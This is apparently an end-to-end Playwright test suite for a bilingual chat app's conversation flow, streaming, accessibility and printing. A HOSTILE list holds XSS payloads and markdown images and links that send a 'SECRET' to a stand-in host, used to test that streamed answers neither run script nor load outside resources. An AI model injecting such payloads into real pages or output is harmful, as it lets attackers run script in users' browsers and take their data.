"""Story 6, in both languages: ask, watch, check, ask otherwise, judge, report, keep, come back."""

import json
import re
from typing import NamedTuple

import polib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser, Page, Route, expect

from tests.e2e.conftest import Platform, every, open_page, sign_in
from tests.messages import CATALOGUE

ANSWER_MS = 90_000


class Words(NamedTuple):
    """What the walk presses and reads."""

    question: str
    otherwise: str
    is_ai: str
    edit: str
    ask_instead: str
    ask_again: str
    stop: str
    helpful: str
    unhelpful: str
    missing: str
    send: str
    thanks: str
    report: str
    dangerous: str
    send_report: str
    reported: str
    trace: str
    prompt: str
    reading: str
    leave: str
    mine: str
    search: str
    rename: str
    save: str
    delete: str
    delete_it: str
    open_document: str
    close_report: str


ENGLISH = Words(
    question="How long does compost take to mature?",
    otherwise="How long does a heap that is never turned take?",
    is_ai="You are talking to an AI, built by",
    edit="Edit the question",
    ask_instead="Ask this instead",
    ask_again="Ask again",
    stop="Stop",
    helpful="Yes",
    unhelpful="No",
    missing="something is missing",
    send="Send",
    thanks="Thank you. Your judgement is stored with the answer; you can change it.",
    report="Report this answer",
    dangerous="it is wrong in a way that does harm",
    send_report="Send the report",
    reported="You reported this answer",
    trace="How it came about",
    prompt="What the model was sent",
    reading="Reading mode",
    leave="Leave reading mode",
    mine="My conversations",
    search="Search",
    rename="Rename",
    save="Save",
    delete="Delete",
    delete_it="Delete it",
    open_document="Open the document",
    close_report="Close the report",
)


def in_french(words: Words) -> Words:
    """The same as the catalogue has it, but for what is asked."""
    said = {entry.msgid: entry.msgstr for entry in polib.pofile(str(CATALOGUE))}
    return Words(*(said.get(each, each) for each in words))._replace(
        question="Combien de temps faut-il au compost pour mûrir ?",
        otherwise="Combien de temps faut-il à un tas qui n'est jamais retourné ?",
        is_ai="Vous parlez à une IA",
    )


def wait_until_over(page: Page, state: str = "finished") -> None:
    newest = page.locator("article.turn").last
    expect(newest).to_have_attribute("data-state", state, timeout=ANSWER_MS)


@pytest.mark.parametrize(("language", "say"), [("en", ENGLISH), ("fr", in_french(ENGLISH))])
@pytest.mark.parametrize("width", [1280, 390])
def test_conversation_from_the_first_question_to_the_last_trace_of_it(
    browser: Browser, platform: Platform, language: str, say: Words, width: int
):
    context, page = open_page(browser, viewport={"width": width, "height": 844})
    context.add_cookies([{"name": "django_language", "value": language, "url": platform.url}])
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=platform.url)
    sign_in(page, platform)

    # It says what it is before the first question, and answers with chips that lead to passages.
    page.goto(f"{platform.url}/apps/{platform.demo['app']}/")
    expect(page.locator(".disclosure")).to_contain_text(say.is_ai)
    page.fill("#id_input", say.question)
    page.keyboard.press("Enter")
    wait_until_over(page)
    chip = page.locator(".answer a.chip").first
    chip.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#source mark")).to_be_visible()
    expect(page.locator("#close-source")).to_be_focused()
    expect(page.locator("#source").get_by_role("link", name=say.open_document)).to_be_visible()
    page.keyboard.press("Escape")
    expect(chip).to_be_focused()

    # The same in other words takes its place; both wordings can be read.
    page.get_by_text(say.edit).click()
    page.locator(".edit textarea").fill(say.otherwise)
    page.get_by_role("button", name=say.ask_instead).click()
    expect(page.locator("article.turn:visible")).to_have_count(1)
    expect(page.locator(".question").last).to_have_text(say.otherwise)
    wait_until_over(page)
    expect(page.locator(".again nav a")).to_have_count(2)
    page.get_by_role("button", name=say.ask_again).click()
    wait_until_over(page)
    expect(page.locator(".again nav a")).to_have_count(3)
    page.locator(".again nav a").first.click()
    expect(page.locator(".question")).to_have_text(say.question)

    # A judgement has reasons and can be changed; a report is sent once.
    page.get_by_role("button", name=say.unhelpful, exact=True).click()
    page.get_by_label(say.missing).check()
    page.get_by_role("button", name=say.send, exact=True).click()
    expect(page.get_by_text(say.thanks)).to_be_visible()
    page.get_by_role("button", name=say.helpful, exact=True).click()
    expect(page.get_by_role("button", name=say.helpful, exact=True)).to_have_attribute(
        "aria-pressed", "true"
    )
    page.get_by_text(say.report).click()
    page.get_by_label(say.dangerous).check()
    page.get_by_role("button", name=say.send_report).click()
    expect(page.get_by_text(say.reported)).to_be_visible()

    # Copied with its sources, and how it came about.
    page.locator("[data-copy^=text-]").click()
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied.startswith(say.question)
    assert re.search(r"\[1\] .+ “.+”\n +https?://.+/documents/", copied, re.DOTALL)
    page.get_by_role("link", name=say.trace).click()
    expect(page.locator("#source").get_by_text(say.prompt)).to_be_visible()
    expect(page.locator("#source .trace-passages > li").first).to_be_visible()
    page.keyboard.press("Escape")

    # To read in peace, and back.
    page.get_by_role("link", name=say.reading).click()
    expect(page.locator(".top")).to_be_hidden()
    page.get_by_role("link", name=say.leave).click()

    # Found again, named, gone on with, deleted.
    page.get_by_role("link", name=say.mine).click()
    page.get_by_role("searchbox").fill(say.otherwise[:20])
    page.get_by_role("button", name=say.search).click()
    row = page.locator(".conversations > li").first
    row.locator("summary").click()
    row.locator("[name=title]").fill(f"Compost {language} {width}")
    row.get_by_role("button", name=say.save).click()
    page.get_by_role("link", name=f"Compost {language} {width}", exact=True).click()
    expect(page.locator("h1 + p")).to_have_text(f"Compost {language} {width}")
    page.go_back()
    page.locator(".conversations > li").first.get_by_role("link", name=say.delete).click()
    expect(page.locator("main")).to_contain_text(f"Compost {language} {width}")
    page.get_by_role("button", name=say.delete_it).click()
    expect(page.get_by_role("link", name=f"Compost {language} {width}", exact=True)).to_have_count(
        0
    )
    context.close()


def test_reload_while_an_answer_grows_loses_and_doubles_nothing(page: Page, platform: Platform):
    app = platform.api("POST", "/apps", status=201, json={"name": "Reloaded", "template": "chat"})
    page.goto(f"{platform.url}/apps/{app['id']}/")
    page.fill("#id_input", "Write a long story about a lighthouse.")
    page.click("#send")
    expect(page.locator(".answer.said")).to_have_text(
        re.compile(".{20}", re.DOTALL), timeout=ANSWER_MS
    )
    page.reload()
    expect(page.locator(".answer.said")).to_have_text(
        re.compile(".{20}", re.DOTALL), timeout=ANSWER_MS
    )
    said = page.locator(".answer.said").inner_text()
    wait_until_over(page)
    run = platform.api("GET", "/runs/" + page.url.rstrip("/").rpartition("/")[2])
    assert run["state"] == "finished"
    assert " ".join(run["answer"].split()).startswith(" ".join(said.split())[:40])
    expect(page.locator("article.turn")).to_have_count(1)
    platform.api("DELETE", f"/apps/{app['id']}", status=204)


def test_question_that_is_refused_keeps_its_text_and_says_why(page: Page, platform: Platform):
    page.goto(f"{platform.url}/apps/{platform.demo['app']}/")
    page.fill("#id_input", "How long?")
    address = f"**/apps/{platform.demo['app']}/"

    def refuse(route: Route) -> None:
        if route.request.method != "POST":
            route.continue_()
            return
        route.fulfill(status=429, content_type="text/plain", body="No more questions today.")

    page.route(address, refuse)
    page.click("#send")
    expect(page.locator("#problem")).to_have_text("No more questions today.")
    expect(page.locator("#id_input")).to_have_value("How long?")
    expect(page.locator("article.turn")).to_have_count(0)
    page.unroute(address)
    page.reload()
    expect(page.locator("#id_input")).to_have_value("How long?")


def test_question_sent_after_the_session_ended_is_kept(page: Page, platform: Platform):
    page.goto(f"{platform.url}/apps/{platform.demo['app']}/")
    page.fill("#id_input", "How long does compost take to mature?")
    page.context.clear_cookies(name="sessionid")
    page.click("#send")
    expect(page.locator("#problem")).to_contain_text("You were signed out meanwhile.")
    expect(page.locator("#id_input")).to_have_value("How long does compost take to mature?")
    sign_in(page.context.new_page(), platform)
    page.click("#send")
    wait_until_over(page)


def stream_of(*deltas: str) -> str:
    """A whole run's events with these words in it."""
    events = [
        ("run.started", {}),
        *(("answer.delta", {"text": text}) for text in deltas),
        ("answer.finished", {"text": "".join(deltas)}),
        ("run.finished", {}),
    ]
    return "".join(
        f"id: {seq}-0\nevent: {kind}\ndata: {json.dumps(data)}\n\n"
        for seq, (kind, data) in enumerate(events, start=1)
    )


def hold(page: Page, address: str) -> list[Route]:
    """Requests to the address get no answer until the test lets them go on."""
    held: list[Route] = []

    def keep(route: Route) -> None:
        held.append(route)

    page.route(address, keep)
    return held


HOSTILE = (
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg onload='window.hit = 1'></svg><math><mi xlink:href='javascript:window.hit=1'>x</mi></math>",
    "[go](javascript:window.hit=1) [go](data:text/html,<script>1</script>)",
    "![x](https://c.example/?q=SECRET) ![y][1]\n\n[1]: https://c.example/?q=SECRET",
    "<link rel=prefetch href=https://c.example/?q=SECRET><style>@import 'https://c.example/'</style>",
    "```html\n</code></pre><script>window.hit = 1</script>\n```",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe><object data=//c.example></object>",
    "[a](//c.example/?q=SECRET \"onmouseover='window.hit=1'\") <https://c.example/?q=SECRET>",
)


@pytest.mark.parametrize("cut", [1, 3, 1000])
def test_c19_c21_what_a_model_writes_neither_runs_nor_loads_while_it_streams(
    page: Page, platform: Platform, cut: int
):
    """The stream is replaced on its way by one that a hostile model would write."""
    text = "\n\n".join(HOSTILE)
    deltas = [text[at : at + cut] for at in range(0, len(text), cut)]
    elsewhere: list[str] = []
    page.on(
        "request",
        lambda request: (
            elsewhere.append(request.url)
            if not request.url.startswith((platform.url, "data:", "blob:"))
            else None
        ),
    )
    page.add_init_script(
        "window.reports = []; document.addEventListener('securitypolicyviolation',"
        " (event) => window.reports.push(event.blockedURI));"
        "window.links = 0; new MutationObserver(() => { window.links = Math.max(window.links,"
        " document.querySelectorAll('.said :is(a, img, script, svg, iframe, link, style)').length) })"
        ".observe(document, {childList: true, subtree: true});"
    )
    page.route(
        "**/events",
        lambda route: route.fulfill(content_type="text/event-stream", body=stream_of(*deltas)),
    )
    page.goto(f"{platform.url}/apps/{platform.demo['app']}/")
    page.fill("#id_input", "How long does compost take to mature?")
    hold(page, "**/runs/*/")  # the rendering of the server
    page.click("#send")
    expect(page.locator(".answer.said")).to_contain_text("window.hit = 1", timeout=ANSWER_MS)
    expect(page.locator(".answer.said")).to_contain_text("https://c.example/?q=SECRET>")
    assert page.evaluate("window.hit") is None
    assert page.evaluate("window.links") == 0
    assert page.evaluate("window.reports") == []
    assert elsewhere == []


SIGNS = st.sampled_from(
    ["a word ", "**", "*", "_", "`", "```\n", "\n", "\n\n", "- ", "1. ", "# ", "> ", "[1]", "[", "]",
     "(https://x.example)", "![", "<b>", "é", "🌱", "\\", "| a |", " "]
)  # fmt: skip


def test_growing_text_is_the_same_however_its_words_arrive(page: Page, platform: Platform):
    """Nothing that was said is lost, and only the end of what is shown is ever made anew."""
    page.goto(platform.url + "/home/")
    grow = """async ([text, cuts]) => {
        const { GrowingText } = await import("/static/runs/markdown.js");
        const grown = document.createElement("div");
        const growing = new GrowingText(grown);
        let at = 0;
        let before = [];
        let stayed = true;
        for (const cut of [...cuts, text.length]) {
            growing.add(text.slice(at, cut));
            at = cut;
            const now = [...grown.children];
            const changed = before.findIndex((node) => !now.includes(node));
            stayed &&= changed < 0 || before.slice(changed).every((node) => !now.includes(node));
            stayed &&= before.every((node, index) => !now.includes(node) || now[index] === node);
            before = now;
        }
        const whole = document.createElement("div");
        new GrowingText(whole).add(text);
        return [grown.innerHTML, whole.innerHTML, growing.text, grown.textContent, stayed];
    }"""

    @settings(max_examples=60, deadline=None)
    @given(st.lists(SIGNS, max_size=30).map("".join), st.lists(st.integers(0, 200), max_size=12))
    def check(text: str, cuts: list[int]) -> None:
        wide = text.encode("utf-16-le")
        places = sorted({min(cut, len(wide) // 2) for cut in cuts})
        grown, whole, kept, shown, stayed = page.evaluate(grow, [text, places])
        assert stayed
        assert grown == whole
        assert kept == text
        letters = re.sub(r"[\W_]|[1x]|https|example", "", text)
        assert re.sub(r"[\W_]|[1x]|https|example", "", shown) == letters

    check()


def test_page_stays_where_the_reader_is_and_follows_only_at_the_end(page: Page, platform: Platform):
    page.set_viewport_size({"width": 1280, "height": 500})
    page.goto(f"{platform.url}/apps/{platform.demo['app']}/")
    paragraphs = [
        f"Paragraph {number}. " + "Words and words. " * 20 + "\n\n" for number in range(30)
    ]
    page.route(
        "**/events",
        lambda route: route.fulfill(content_type="text/event-stream", body=stream_of(*paragraphs)),
    )
    held = hold(page, "**/runs/*/")
    page.fill("#id_input", "How long does compost take to mature?")
    page.click("#send")
    expect(page.locator(".answer.said")).to_contain_text("Paragraph 29.", timeout=ANSWER_MS)
    ends = page.evaluate(
        "[document.getElementById('turns').getBoundingClientRect().bottom,"
        " document.getElementById('ask').getBoundingClientRect().top]"
    )
    assert ends[0] <= ends[1] + 1, "the end of the answer is in view"
    page.evaluate("window.scrollTo(0, 0)")
    before = page.locator(".question").first.bounding_box()
    run = page.url.rstrip("/").rpartition("/")[2]
    for _ in every(0.3, ANSWER_MS / 1000):  # the true run; its stream was another's
        if platform.api("GET", f"/runs/{run}")["state"] == "finished":
            break
    held[-1].continue_()
    wait_until_over(page)
    assert page.locator(".question").first.bounding_box() == before


def test_screen_readers_hear_whole_sentences(page: Page, platform: Platform):
    page.goto(f"{platform.url}/home/")
    heard = page.evaluate(
        """async () => {
            const { Speech } = await import("/static/runs/speech.js");
            const region = document.createElement("p");
            document.body.append(region);
            const heard = [];
            new MutationObserver(() => heard.push(region.textContent)).observe(region, {childList: true});
            const speech = new Speech(region);
            for (const letter of "It takes **a year** [1]. Turn it wee") speech.hear(letter);
            await new Promise((resolve) => {
                new MutationObserver(resolve).observe(region, {childList: true});
            });
            speech.hear("kly.");
            speech.end("Done.");
            await Promise.resolve();
            return heard;
        }"""
    )
    assert [text for text in heard if text] == ["It takes a year .", "Turn it weekly. Done."]


def test_printed_conversation_holds_words_and_sources_with_addresses(
    page: Page, platform: Platform, places: dict[str, str]
):
    page.goto(f"{platform.url}/runs/{places['run']}/")
    page.emulate_media(media="print")
    for shown in (".question", ".answer", ".sources", ".sources q", ".sources .address"):
        expect(page.locator(shown).first).to_be_visible()
    expect(page.locator(".sources .address").first).to_contain_text("/documents/")
    for hidden in (".top", ".ask", ".tools", ".again", ".chat-head .buttons"):
        expect(page.locator(hidden).first).to_be_hidden()


def test_everything_but_the_pane_works_without_script(browser: Browser, platform: Platform):
    context, page = open_page(browser, java_script_enabled=False)
    sign_in(page, platform)
    page.goto(f"{platform.url}/apps/{platform.demo['app']}/")
    page.fill("#id_input", ENGLISH.question)
    page.click("#send")
    expect(page.locator("article.turn[data-state=finished]")).to_be_visible(timeout=ANSWER_MS)
    page.get_by_role("button", name="No", exact=True).click()
    page.get_by_label("Something is missing").check()
    page.get_by_role("button", name="Send", exact=True).click()
    expect(page.get_by_text("Your judgement is stored")).to_be_visible()
    page.get_by_text("Edit the question").click()
    page.locator(".edit textarea").fill(ENGLISH.otherwise)
    page.get_by_role("button", name="Ask this instead").click()
    expect(page.locator("article.turn[data-state=finished] .again nav a")).to_have_count(
        2, timeout=ANSWER_MS
    )
    context.close()
